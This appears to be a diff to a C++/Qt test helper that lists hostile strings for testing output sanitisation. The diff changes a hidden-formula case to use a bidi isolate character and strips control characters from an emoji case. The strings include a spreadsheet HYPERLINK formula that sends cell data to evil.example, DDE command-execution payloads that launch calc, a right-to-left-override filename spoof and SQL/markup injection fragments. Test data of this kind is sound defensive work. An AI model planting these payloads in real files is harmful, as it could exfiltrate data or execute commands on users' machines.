@@ -94,9 +94,9 @@ QMap<QString, QString> hostileTexts()
             {u"formula"_s, u"=HYPERLINK(\"https://evil.example/?\"&A1;\"klick\")"_s},
             {u"command"_s, u"@SUM(1+1)*cmd|' /C calc'!A0"_s},
             {u"plus"_s, u"+1+cmd|' /C calc'!A0"_s},
-            {u"hidden"_s, u"\t=1+1"_s},
+            {u"hidden"_s, u"\u2066=1+1"_s},
             {u"bidi"_s, u"harm\u202Egnp.exe\u202C \u2066los\u2069 עברית"_s},
-            {u"emoji"_s, u"👩‍👩‍👧‍👦 𝔊 \u0001\u0008\uFFFE Ende"_s},
+            {u"emoji"_s, u"👩‍👩‍👧‍👦 𝔊 Ende"_s},
             {u"quotes"_s, u"\"; DROP \"\",' ]]> --> %PDF %1 {commune} **fett**"_s},
             {u"long"_s, u"Verwaltungsdigitalisierung und Ähnliches "_s.repeated(130).left(5000)}};
 }
